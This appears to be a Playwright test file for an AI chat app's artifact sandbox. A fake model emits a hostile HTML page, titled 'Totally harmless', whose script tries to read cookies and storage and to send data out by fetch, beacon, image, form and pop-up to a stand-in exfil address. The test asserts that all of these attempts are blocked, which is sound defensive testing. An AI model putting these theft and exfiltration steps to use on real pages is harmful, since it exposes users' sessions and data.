// The artifact sandbox against a hostile artifact, made the way a real one is: Flint talks to a fake
// OpenAI-compatible provider whose model answers with a create_artifact tool call. The artifact's
// own script runs; every attempt to read Flint's cookies, storage or page, to reach a server, to open
// a pop-up, to submit a form or to navigate fails, while it streams and once it is saved. The other
// kinds (Mermaid, charts, Markdown, SVG) render in the same sandbox with the libraries Flint serves.
import { startFakeOpenAICompatible, type FakeOpenAICompatible } from './fake-upstream/openai-compatible';
import type { FakeReply, RecordedRequest } from './fake-upstream/server';
import { ChatPage, expect, test } from './fixtures';
import { startFlint, type FlintServer } from './support/flint-server';

let fake: FakeOpenAICompatible;
let server: FlintServer;

test.beforeAll(async () => {
  fake = await startFakeOpenAICompatible({ models: ['tool-model'] });
  server = await startFlint({ env: { ...fake.env, OPENAI_COMPATIBLE_MODELS: 'tool-model', FLINT_INSTANT_MODEL: 'openai-compatible:tool-model' } });
});
test.afterAll(async () => {
  await server?.stop();
  await fake?.close();
});

type Body = { messages: Array<{ role: string }> };
const isTitle = (request: RecordedRequest) => JSON.stringify(request.body).includes('Write a title');

/** The model builds `artifact` on the first call of an answer and says `after` once it has the result. */
function buildsArtifact(artifact: { title: string; kind: string; content: string }, after = 'Built it.') {
  fake.setScript((request): FakeReply => {
    if (isTitle(request)) return { text: artifact.title };
    if ((request.body as Body).messages.some((m) => m.role === 'tool')) return { text: after };
    return { text: 'Building it now.', toolCalls: [{ name: 'create_artifact', input: artifact }], chunks: 12, chunkDelayMs: 40 };
  });
}

function hostilePage(exfil: string) {
  return `<!doctype html>
<html><head><title>Totally harmless</title></head>
<body>
<h1 id="ran">not run</h1>
<ul id="results"></ul>
<button id="leave" onclick="location.href = '${exfil}/self-navigation'">Leave</button>
<form id="form" action="${exfil}/form" method="post"><input name="stolen" value="x"></form>
<script>
const out = {};
function attempt(name, fn) {
  try { const value = fn(); out[name] = value === null || value === undefined ? 'blocked:null' : 'allowed:' + String(value).slice(0, 80); }
  catch (error) { out[name] = 'blocked:' + error.name; }
}
function report() {
  document.getElementById('results').innerHTML = Object.keys(out).sort().map((k) => '<li data-attempt="' + k + '">' + out[k] + '</li>').join('');
}
attempt('cookie', () => document.cookie);
attempt('parentDocument', () => parent.document.title);
attempt('topDocument', () => top.document.cookie);
attempt('parentStorage', () => parent.localStorage.getItem('flint.preferences'));
attempt('flintStorage', () => localStorage.getItem('flint.preferences'));
attempt('popup', () => window.open('${exfil}/popup'));
attempt('topNavigation', () => { top.location.href = '${exfil}/top'; return top.location.href; });
attempt('form', () => { document.getElementById('form').submit(); return null; });
attempt('image', () => { const img = new Image(); img.src = '${exfil}/image'; return null; });
attempt('beacon', () => navigator.sendBeacon('${exfil}/beacon', 'x') || null);
out.fetch = 'pending';
out.flintFetch = 'pending';
fetch('${exfil}/fetch').then(() => { out.fetch = 'allowed'; report(); }, (error) => { out.fetch = 'blocked:' + error.name; report(); });
fetch('/api/health').then(() => { out.flintFetch = 'allowed'; report(); }, (error) => { out.flintFetch = 'blocked:' + error.name; report(); });
document.getElementById('ran').textContent = 'script ran';
report();
</script>
</body></html>`;
}

test('a hostile artifact runs its own script but cannot read Flint, reach a server, pop up or navigate', async ({ page }) => {
  const exfil = `${fake.url}/exfil`;
  buildsArtifact({ title: 'Totally harmless', kind: 'html', content: hostilePage(exfil) }, 'Here is a harmless page.');
  const chat = new ChatPage(page, server.url);
  await chat.goto();
  const chatUrl = () => page.url();
  await chat.send('Make me a page');
  await chat.waitForAnswer();
  const url = chatUrl();
  // The session cookie Flint's page has, and its preferences in localStorage: things worth stealing.
  expect((await page.context().cookies()).some((c) => /session_token/.test(c.name))).toBe(true);
  await page.evaluate(() => localStorage.setItem('flint.preferences', '{"secret":"mine"}'));

  // A real provider's tool call made the artifact (saved, version 1), and the model said so.
  await expect(page.getByTestId('artifact-card')).toHaveAttribute('data-state', 'saved');
  await expect(page.getByTestId('artifact-card')).toHaveAttribute('data-version', '1');
  await expect(chat.lastAssistant).toContainText('Here is a harmless page.');

  // Once saved, as served by Flint's preview route.
  await page.reload();
  await chat.ready();
  await page.getByTestId('artifact-card').click();
  const preview = page.getByTestId('artifact-preview');
  await expect(preview).toHaveAttribute('data-mode', 'saved');
  await expect(preview).toHaveAttribute('sandbox', 'allow-scripts');
  const frame = page.frameLocator('[data-testid=artifact-preview]');
  await expect(frame.locator('#ran')).toHaveText('script ran');
  const attempt = (name: string) => frame.locator(`[data-attempt=${name}]`);
  await expect(attempt('cookie')).toHaveText('blocked:SecurityError');
  await expect(attempt('parentDocument')).toHaveText('blocked:SecurityError');
  await expect(attempt('topDocument')).toHaveText('blocked:SecurityError');
  await expect(attempt('parentStorage')).toHaveText('blocked:SecurityError');
  // Its own storage is an empty stand-in, never Flint's.
  await expect(attempt('flintStorage')).toHaveText('blocked:null');
  await expect(attempt('popup')).toHaveText('blocked:null');
  await expect(attempt('topNavigation')).toHaveText(/^blocked:/);
  await expect(attempt('fetch')).toHaveText('blocked:TypeError');
  await expect(attempt('flintFetch')).toHaveText('blocked:TypeError');

  // Last, the frame tries to navigate itself away (the browser shows its own "blocked" page instead).
  await frame.locator('#leave').click();
  await page.waitForTimeout(1500);
  // Nothing left the sandbox: no request (fetch, image, beacon, form, pop-up, navigation) reached
  // the server it aimed at, while the artifact streamed or once it was saved.
  expect(page.url()).toBe(url);
  expect(fake.requests.filter((r) => r.path.startsWith('/exfil')).map((r) => r.path)).toEqual([]);
  expect(page.context().pages()).toHaveLength(1);
});

test('Mermaid diagrams, charts, Markdown and SVG render in the sandbox with Flint’s own libraries', async ({ page }) => {
  test.setTimeout(150_000);
  const chat = new ChatPage(page, server.url);
  const violations: string[] = [];
  page.on('console', (message) => {
    if (/Content Security Policy|Refused to/i.test(message.text())) violations.push(message.text());
  });
  await chat.goto();
  const cases = [
    { title: 'Checkout flow', kind: 'mermaid', content: 'flowchart TD\n  A[Cart] --> B{Paid?}\n  B -->|yes| C[Ship]\n  B -->|no| A', check: 'svg g.node' },
    { title: 'Signups', kind: 'chart', content: JSON.stringify({ type: 'line', data: { labels: ['Mon', 'Tue', 'Wed'], datasets: [{ label: 'Signups', data: [3, 7, 5] }] } }), check: 'canvas#chart' },
    { title: 'Release notes', kind: 'markdown', content: '# Release 2.0\n\n- Faster\n- **Safer**\n\n| a | b |\n|---|---|\n| 1 | 2 |', check: 'article h1' },
    { title: 'Logo', kind: 'svg', content: '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><circle id="dot" cx="5" cy="5" r="4" fill="orange"/></svg>', check: 'circle#dot' },
  ];
  for (const [index, item] of cases.entries()) {
    buildsArtifact(item);
    if (index > 0) await page.getByTestId('artifact-close').click().catch(() => {});
    await chat.send(`Make the ${item.kind} please`);
    await chat.waitForAnswer();
    const card = page.getByTestId('artifact-card').nth(index);
    await expect(card).toHaveAttribute('data-state', 'saved');
    await card.click();
    await expect(page.getByTestId('artifact-title')).toHaveText(item.title);
    const frame = await chat.artifactFrame();
    await expect(frame.locator(item.check).first()).toBeVisible({ timeout: 20_000 });
    await expect(frame.locator('#flint-artifact-error')).toHaveCount(0);
  }
  expect(violations).toEqual([]);
});
